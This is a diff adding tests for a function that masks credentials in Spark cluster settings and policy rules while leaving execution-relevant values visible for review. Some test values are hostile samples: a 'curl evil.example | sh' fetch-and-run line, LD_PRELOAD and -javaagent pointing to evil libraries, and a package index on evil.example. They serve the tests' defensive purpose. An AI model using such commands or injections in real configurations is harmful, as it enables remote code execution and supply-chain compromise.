@@ -100,3 +100,55 @@ test("activation links and bearer tokens of Delta Sharing are masked wherever th
     token_detail: { bearerToken: "[redacted]" },
   });
 });
+
+describe("a question shows what runs, and hides credentials", () => {
+  const shown = (name: string, value: string) => maskGiven({ spark_env_vars: { [name]: value } });
+  test.each([
+    ["LD_PRELOAD", "/tmp/evil.so"],
+    ["PYTHONPATH", "/a/b:/c"],
+    ["PIP_INDEX_URL", "https://evil.example:8080/simple"],
+    ["DATA", "abfss://raw@acme.dfs.core.windows.net/x"],
+    ["JAVA_TOOL_OPTIONS", "-javaagent:/tmp/evil.jar"],
+    ["PROMPT_COMMAND", "curl evil.example | sh # token"],
+    ["AWS_CREDENTIAL_PROVIDER", "com.evil.Provider"],
+    ["FROM_SCOPE", "{{secrets/a/b}}"],
+  ])("%s", (name, value) => {
+    expect(shown(name, value)).toEqual({ spark_env_vars: { [name]: value } });
+  });
+
+  test.each([
+    ["DB_PASSWORD", "hunter2"],
+    ["DB_PASSWORD", "correct horse battery"],
+    ["X", "hunter2"],
+    ["AWS_SECRET", "/K7MDENGbPxRfiCYEXAMPLEKEY1wJalr"],
+    ["AWS_SECRET", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"],
+    ["PIP_INDEX_URL", "https://ana:hunter2@pypi.example/simple"],
+    ["FILES", "https://h.example/x?sig=abc"],
+    ["LINK", "https://h.example/0123456789abcdef0123456789abcdef"],
+  ])("not %s=%s", (name, value) => {
+    expect(shown(name, value)).toEqual({ spark_env_vars: { [name]: MASK } });
+  });
+
+  test("credentials within a command are hidden alone", () => {
+    expect(shown("RUN", "curl -H token: hunter2 --key=/x.pem https://a.example/aB3dE5gH7jK9mN")).toEqual({
+      spark_env_vars: { RUN: `curl -H token: ${MASK} --key=/x.pem ${MASK}` },
+    });
+  });
+
+  test("settings of Spark and rules of policies, but not in results", () => {
+    const spark_conf = { "spark.my.token.provider": "evil.Class", "x.token": "a.b2.c33", "x.secret": "hunter2" };
+    expect(maskGiven({ spark_conf })).toEqual({ spark_conf: { ...spark_conf, "x.token": MASK, "x.secret": MASK } });
+    const rule = { "spark_env_vars.LD_PRELOAD": { type: "fixed", value: "/evil.so" } };
+    expect(maskGiven({ definition: rule })).toEqual({ definition: rule });
+    expect(maskSettings({ spark_env_vars: { LD_PRELOAD: "/evil.so" } })).toEqual({
+      spark_env_vars: { LD_PRELOAD: MASK },
+    });
+  });
+
+  test("X14 long values take no long time", () => {
+    const before = performance.now();
+    for (const part of ["key", "a.", "/a", "a:", "a1", "-Dkey= "]) shown("X", `-${part.repeat(100_000)}`);
+    for (const part of ["key", "a.", "/a", "a:", "a1B"]) shown("X", part.repeat(100_000));
+    expect(performance.now() - before).toBeLessThan(2000);
+  });
+});
